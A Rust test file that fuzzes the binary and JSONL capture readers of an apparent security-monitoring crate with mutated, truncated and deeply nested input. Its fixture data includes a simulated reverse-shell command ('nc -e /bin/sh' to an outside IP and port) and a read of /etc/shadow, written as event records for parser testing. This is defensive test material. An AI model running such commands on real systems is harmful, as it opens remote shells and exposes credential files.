//! Randomized robustness: mutated and truncated captures and fixture texts must be rejected
//! with an error or read completely, never panic. These exercise the same entry points as the
//! cargo-fuzz targets (`fuzz/fuzz_targets/capture_*.rs`) on every `cargo test`, with a fixed
//! seed so failures reproduce.

use vigil_capture::binary::{BinaryReader, BinaryWriter};
use vigil_capture::jsonl::{self, JsonlReader};
use vigil_capture::{HostInfo, ParamBuf, Stats};

/// xorshift64*: deterministic, dependency-free.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }
    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }
}

const FIXTURE: &str = r#"{"host":{"hostname":"h"}}
{"container":{"id":"abc","name":"web","labels":{"a":"b"}}}
{"process":{"pid":10,"ppid":1,"comm":"bash","args":["-i"],"container_id":"abc"}}
{"event":"clone","pid":11,"args":{"ptid":10,"flags":"CLONE_CHILD_SETTID"}}
{"event":"execve","pid":11,"args":{"exe":"nc","args":["-e","/bin/sh","1.2.3.4","4444"],"flags":"EXE_UPPER_LAYER"}}
{"event":"connect","pid":11,"res":"EINPROGRESS","args":{"fd":3,"addr":"[2001:db8::1]:443"},"fd":{"tuple":"tcp [fd00::1]:5000->[2001:db8::1]:443"}}
{"event":"dup2","pid":11,"res":0,"args":{"oldfd":3,"newfd":0},"fd":{"num":0,"type":"ipv4","tuple":"tcp 1.1.1.1:1->2.2.2.2:2"}}
{"event":"openat","pid":11,"res":4,"args":{"fd":4,"name":"/etc/shadow","flags":"O_RDONLY","mode":"0"},"fd":{"name":"/etc/shadow","nameraw":"../etc/shadow"}}
{"event":"procexit","pid":11,"args":{"status":0,"sig":"SIGKILL"}}
{"end":{"events":6}}
"#;

fn binary_fixture() -> Vec<u8> {
    let recs = jsonl::parse_str(FIXTURE, "f").unwrap();
    let mut w = BinaryWriter::new(Vec::new(), "mem", &HostInfo::default()).unwrap();
    let mut buf = ParamBuf::new();
    for r in &recs {
        r.with_record(&mut buf, |rec| w.write_record(&rec)).unwrap();
    }
    w.finish(Stats::default()).unwrap()
}

fn read_binary(bytes: &[u8]) -> Result<usize, String> {
    let mut r = BinaryReader::new(bytes, "m").map_err(|e| e.to_string())?;
    let mut n = 0;
    while r
        .next_record(|rec| jsonl::record_to_json(&rec).len())
        .map_err(|e| e.to_string())?
        .is_some()
    {
        n += 1;
    }
    Ok(n)
}

fn read_text(bytes: &[u8]) -> Result<usize, String> {
    let mut r = JsonlReader::new(bytes, "t");
    let mut n = 0;
    while r.next_record(|_| ()).map_err(|e| e.to_string())?.is_some() {
        n += 1;
    }
    Ok(n)
}

#[test]
fn mutated_binary_captures_never_panic() {
    let good = binary_fixture();
    // The writer's host record, the fixture's own records, the writer's end record.
    assert_eq!(read_binary(&good), Ok(11));
    let mut rng = Rng(0x9e37_79b9_7f4a_7c15);
    let mut rejected = 0;
    for _ in 0..20_000 {
        let mut b = good.clone();
        for _ in 0..1 + rng.below(4) {
            let i = rng.below(b.len());
            match rng.below(3) {
                0 => b[i] ^= 1 << rng.below(8),
                1 => b[i] = rng.next() as u8,
                _ => b.truncate(i),
            }
            if b.is_empty() {
                break;
            }
        }
        if read_binary(&b).is_err() {
            rejected += 1;
        }
    }
    // CRC32 and the end count catch essentially every mutation.
    assert!(
        rejected > 19_900,
        "only {rejected} of 20000 mutations were rejected"
    );
}

#[test]
fn mutated_payloads_with_valid_checksums_never_panic() {
    // Recompute the checksum after mutating a payload, so the decoder itself is exercised.
    let good = binary_fixture();
    let mut rng = Rng(42);
    let mut frames = Vec::new();
    let mut pos = vigil_capture::binary::HEADER_LEN;
    while pos < good.len() {
        let len = u32::from_le_bytes(good[pos + 1..pos + 5].try_into().unwrap()) as usize;
        frames.push((pos, len));
        pos += 9 + len;
    }
    for _ in 0..20_000 {
        let mut b = good.clone();
        let (at, len) = frames[rng.below(frames.len())];
        if len == 0 {
            continue;
        }
        let i = at + 5 + rng.below(len);
        b[i] = rng.next() as u8;
        let mut h = crc32fast::Hasher::new();
        h.update(&b[at..at + 5 + len]);
        b[at + 5 + len..at + 9 + len].copy_from_slice(&h.finalize().to_le_bytes());
        let _ = read_binary(&b);
    }
}

#[test]
fn mutated_fixture_text_never_panics() {
    assert_eq!(read_text(FIXTURE.as_bytes()), Ok(10));
    let mut rng = Rng(7);
    let alphabet = b"{}[]\":,0123456789-|.>ENOabcdefxyz \n\\";
    for _ in 0..3_000 {
        let mut b = FIXTURE.as_bytes().to_vec();
        for _ in 0..1 + rng.below(3) {
            let i = rng.below(b.len());
            match rng.below(3) {
                0 => b[i] = alphabet[rng.below(alphabet.len())],
                1 => {
                    b.remove(i);
                }
                _ => b.insert(i, alphabet[rng.below(alphabet.len())]),
            }
        }
        let _ = read_text(&b);
        if let Ok(t) = std::str::from_utf8(&b) {
            let yaml = format!(
                "rules: r\ncases:\n  - name: x\n    expect_none: true\n    events:\n{}",
                t.lines()
                    .map(|l| format!("      - {l}\n"))
                    .collect::<String>()
            );
            let _ = vigil_capture::cases::parse(&yaml, std::path::Path::new("c.yaml"));
        }
    }
}

#[test]
fn deep_nesting_is_refused_not_overflowed() {
    let deep = format!(
        "{{\"process\":{}1{}}}\n",
        "[".repeat(2_000),
        "]".repeat(2_000)
    );
    assert!(read_text(deep.as_bytes()).is_err());
    let deep_yaml = format!(
        "rules: r\ncases: {}{}\n",
        "[".repeat(2_000),
        "]".repeat(2_000)
    );
    assert!(vigil_capture::cases::parse(&deep_yaml, std::path::Path::new("c.yaml")).is_err());
}
